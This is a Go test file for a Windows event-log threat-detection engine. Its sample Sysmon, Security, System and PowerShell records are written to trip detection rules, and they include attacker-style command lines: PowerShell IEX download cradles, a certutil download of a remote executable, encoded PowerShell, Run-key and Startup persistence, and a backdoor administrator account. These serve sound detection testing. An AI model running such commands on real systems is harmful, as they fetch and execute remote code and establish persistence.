package detect

import (
	"io"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/Yamato-Security/hayabusa-sub001/core"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

type memSource struct {
	name    string
	content string
}

func (m memSource) Name() string { return m.name }

func (m memSource) Open() (io.ReadCloser, error) {
	return io.NopCloser(strings.NewReader(m.content)), nil
}

func stringSource(name, content string) core.RuleSource {
	return memSource{name: name, content: content}
}

func channelRecord(channel, eventType string, fields map[string]string) *core.Record {
	return core.NewRecord(eventType, core.SystemMetadata{
		Channel:   channel,
		Computer:  "DC01.corp.local",
		Timestamp: time.Date(2024, 3, 1, 12, 30, 0, 0, time.UTC),
	}, fields)
}

// builtinSamples holds one record per built-in event type, each written to
// trip its rules.
func builtinSamples() []*core.Record {
	return []*core.Record{
		channelRecord(ChannelSysmon, "1", map[string]string{
			"Image":       `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`,
			"CommandLine": "powershell.exe -nop -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA",
			"ParentImage": `C:\Windows\explorer.exe`,
			"User":        `CORP\alice`,
		}),
		channelRecord(ChannelSysmon, "3", map[string]string{"Image": "beacon.exe", "DestinationIp": "10.0.0.5", "DestinationPort": "443"}),
		channelRecord(ChannelSysmon, "7", map[string]string{"Image": "rundll32.exe", "ImageLoaded": `C:\Users\Public\x.dll`, "Signed": "false"}),
		channelRecord(ChannelSysmon, "11", map[string]string{"Image": "x.exe", "TargetFilename": `C:\Users\bob\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\evil.lnk`}),
		channelRecord(ChannelSysmon, "13", map[string]string{"Image": "reg.exe", "TargetObject": `HKU\S-1-5-21\Software\Microsoft\Windows\CurrentVersion\Run\updater`, "Details": `C:\tmp\u.exe`}),
		channelRecord(ChannelSysmon, "22", map[string]string{"Image": "chrome.exe", "QueryName": "example.com"}),
		channelRecord(ChannelSecurity, "4688", map[string]string{
			"NewProcessName":    `C:\Windows\System32\certutil.exe`,
			"CommandLine":       "certutil.exe -urlcache -split -f http://x/a.exe a.exe",
			"ParentProcessName": `C:\Windows\System32\cmd.exe`,
			"SubjectUserName":   "alice",
		}),
		channelRecord(ChannelSecurity, "4624", map[string]string{"LogonType": "10", "TargetUserName": "admin", "IpAddress": "192.168.1.20"}),
		channelRecord(ChannelSecurity, "4625", map[string]string{"TargetUserName": "admin", "IpAddress": "192.168.1.20", "LogonType": "3"}),
		channelRecord(ChannelSecurity, "4720", map[string]string{"TargetUserName": "backdoor", "SubjectUserName": "alice"}),
		channelRecord(ChannelSecurity, "4732", map[string]string{"TargetSid": "S-1-5-32-544", "TargetUserName": "Administrators", "MemberSid": "S-1-5-21-1-2-3-1010"}),
		channelRecord(ChannelSecurity, "1102", map[string]string{"SubjectUserName": "alice"}),
		channelRecord(ChannelSystem, "7045", map[string]string{"ServiceName": "PSEXESVC", "ImagePath": `%COMSPEC% /c whoami`}),
		channelRecord(ChannelSystem, "104", map[string]string{"SubjectUserName": "alice", "Channel": "System"}),
		channelRecord(ChannelPowerShell, "4104", map[string]string{"ScriptBlockText": "IEX (New-Object Net.WebClient).DownloadString('http://x/p.ps1')", "ScriptBlockId": "abc"}),
		channelRecord(ChannelWindowsPowerShell, "4103", map[string]string{"Payload": "CommandInvocation(Get-Process)"}),
	}
}

func builtinDispatcher(t *testing.T) *Dispatcher {
	t.Helper()
	reg, err := DefaultRegistry(SourceOptions{RegexTimeout: time.Second})
	require.NoError(t, err)
	var rules []core.Rule
	for _, ref := range reg.Refs() {
		rules = append(rules, core.Rule{ID: ref.RuleID, Severity: core.SeverityMedium})
	}
	cat, err := core.NewCatalog(rules)
	require.NoError(t, err)
	d, err := NewDispatcher(reg, nil, cat)
	require.NoError(t, err)
	require.Empty(t, d.InactiveBindings())
	return d
}

func ruleIDs(findings []core.Finding) []string {
	ids := make([]string, 0, len(findings))
	for _, f := range findings {
		ids = append(ids, f.RuleID)
	}
	return ids
}

func TestBuiltinSources_Samples(t *testing.T) {
	d := builtinDispatcher(t)

	expected := [][]string{
		{RuleSysmonProcessCreation, RuleSysmonSuspiciousCommand},
		{RuleSysmonNetworkConnection},
		{RuleSysmonUnsignedImageLoad},
		{RuleSysmonStartupFileCreated},
		{RuleSysmonRunKeyModified},
		{RuleSysmonDNSQuery},
		{RuleSecurityProcessCreation, RuleSecuritySuspiciousCommand},
		{RuleSecurityRemoteLogon},
		{RuleSecurityFailedLogon},
		{RuleSecurityAccountCreated},
		{RuleSecurityAdminGroupAdd},
		{RuleSecurityAuditLogCleared},
		{RuleSystemServiceInstalled},
		{RuleSystemEventLogCleared},
		{RulePowerShellSuspiciousScriptBlock},
		{RulePowerShellModuleLogging},
	}

	samples := builtinSamples()
	require.Len(t, samples, len(expected))
	for i, rec := range samples {
		res := d.Dispatch(rec)
		assert.Equal(t, OutcomeDetected, res.Outcome, "%s/%s", rec.System.Channel, rec.EventType)
		assert.Equal(t, expected[i], ruleIDs(res.Findings), "%s/%s", rec.System.Channel, rec.EventType)
	}
}

func TestBuiltinSources_BenignRecordsAreClean(t *testing.T) {
	d := builtinDispatcher(t)

	tests := []struct {
		name string
		rec  *core.Record
	}{
		{"signed image load", channelRecord(ChannelSysmon, "7", map[string]string{"ImageLoaded": "kernel32.dll", "Signed": "true"})},
		{"file outside startup", channelRecord(ChannelSysmon, "11", map[string]string{"TargetFilename": `C:\tmp\a.txt`})},
		{"unrelated registry key", channelRecord(ChannelSysmon, "13", map[string]string{"TargetObject": `HKLM\Software\Vendor\Setting`})},
		{"interactive logon", channelRecord(ChannelSecurity, "4624", map[string]string{"LogonType": "2"})},
		{"logon type missing", channelRecord(ChannelSecurity, "4624", nil)},
		{"non-admin group", channelRecord(ChannelSecurity, "4732", map[string]string{"TargetSid": "S-1-5-32-555", "TargetUserName": "Remote Desktop Users"})},
		{"benign script block", channelRecord(ChannelPowerShell, "4104", map[string]string{"ScriptBlockText": "Get-ChildItem C:\\"})},
		{"script block missing", channelRecord(ChannelPowerShell, "4104", nil)},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			res := d.Dispatch(tt.rec)
			assert.Equal(t, OutcomeClean, res.Outcome)
			assert.Empty(t, res.Findings)
		})
	}
}

func TestBuiltinSources_ProcessCreationWithoutCommandLine(t *testing.T) {
	d := builtinDispatcher(t)

	res := d.Dispatch(channelRecord(ChannelSysmon, "1", map[string]string{"Image": "notepad.exe"}))
	assert.Equal(t, []string{RuleSysmonProcessCreation}, ruleIDs(res.Findings))
	assert.Equal(t, core.Evidence{"Image": "notepad.exe"}, res.Findings[0].Evidence)
}

func TestBuiltinSources_SecurityProcessFieldsRenamed(t *testing.T) {
	d := builtinDispatcher(t)

	res := d.Dispatch(builtinSamples()[6])
	require.Len(t, res.Findings, 2)
	ev := res.Findings[1].Evidence
	assert.Equal(t, `C:\Windows\System32\certutil.exe`, ev["Image"])
	assert.Equal(t, `C:\Windows\System32\cmd.exe`, ev["ParentImage"])
	assert.Equal(t, "alice", ev["User"])
	assert.Equal(t, "lolbin_abuse", ev["Check"])
}

func TestBuiltinSources_Evidence(t *testing.T) {
	d := builtinDispatcher(t)
	samples := builtinSamples()

	res := d.Dispatch(samples[0])
	assert.Equal(t, "encoded_command", res.Findings[1].Evidence["Check"])

	res = d.Dispatch(samples[7])
	assert.Equal(t, "RemoteInteractive", res.Findings[0].Evidence["LogonTypeName"])

	res = d.Dispatch(samples[12])
	assert.Equal(t, "suspicious_image_path", res.Findings[0].Evidence["Indicator"])

	res = d.Dispatch(samples[14])
	assert.Equal(t, "download_cradle", res.Findings[0].Evidence["Check"])
}

func TestBuiltinSources_ScriptBlockObfuscation(t *testing.T) {
	d := builtinDispatcher(t)

	script := "$s=[System.Text.Encoding]::Unicode.GetString([Convert]::FromBase64String($b)); " + strings.Repeat("A", 4096)
	res := d.Dispatch(channelRecord(ChannelPowerShell, "4104", map[string]string{"ScriptBlockText": script}))
	require.Len(t, res.Findings, 1)
	ev := res.Findings[0].Evidence
	assert.Equal(t, "obfuscation", ev["Check"])
	assert.Len(t, ev["ScriptBlockText"], maxScriptEvidence+3)
}

func TestBuiltinSources_ClearedChannelFallback(t *testing.T) {
	d := builtinDispatcher(t)

	res := d.Dispatch(channelRecord(ChannelSystem, "104", map[string]string{"ClearedChannel": "Security"}))
	require.Len(t, res.Findings, 1)
	assert.Equal(t, "Security", res.Findings[0].Evidence["Channel"])
}

func TestDefaultRegistry_Coverage(t *testing.T) {
	reg, err := DefaultRegistry(SourceOptions{})
	require.NoError(t, err)

	assert.Equal(t, []string{SourcePowerShell, SourceSecurity, SourceSysmon, SourceSystem}, reg.Sources())
	for _, ch := range []string{ChannelSysmon, ChannelSecurity, ChannelSystem, ChannelPowerShell, ChannelWindowsPowerShell} {
		_, ok := reg.Resolve(ch)
		assert.True(t, ok, ch)
	}
	assert.Len(t, reg.Refs(), 18)
}

func TestContentMatchers_VerdictCache(t *testing.T) {
	m := newContentMatchers(SourceOptions{VerdictCacheSize: 2})

	cradle := "powershell -nop -c IEX (New-Object Net.WebClient).DownloadString('http://x/a')"
	check, hit := m.suspiciousCommand(cradle)
	assert.True(t, hit)
	assert.Equal(t, "download_cradle", check)

	_, hit = m.suspiciousCommand("notepad.exe C:\\notes.txt")
	assert.False(t, hit)
	assert.Equal(t, 2, m.verdicts.Len())

	cached, ok := m.verdicts.Get(cradle)
	require.True(t, ok)
	assert.Equal(t, "download_cradle", cached)

	// repeat lookups agree with the first verdict
	check, hit = m.suspiciousCommand(cradle)
	assert.True(t, hit)
	assert.Equal(t, "download_cradle", check)

	m.suspiciousCommand("cmd.exe /c whoami")
	assert.Equal(t, 2, m.verdicts.Len(), "cache stays bounded")

	_, hit = m.suspiciousCommand("")
	assert.False(t, hit)
}

func TestTruncate_KeepsRunesWhole(t *testing.T) {
	assert.Equal(t, "short", truncate("short", 10))
	assert.Equal(t, "abc...", truncate("abcdef", 3))

	// "é" is two bytes; a cut through it backs off to the rune start
	got := truncate("aé", 2)
	assert.Equal(t, "a...", got)
	assert.True(t, utf8.ValidString(got))

	script := strings.Repeat("a", maxScriptEvidence-1) + "日本語"
	got = truncate(script, maxScriptEvidence)
	assert.True(t, utf8.ValidString(got))
	assert.Equal(t, strings.Repeat("a", maxScriptEvidence-1)+"...", got)
}
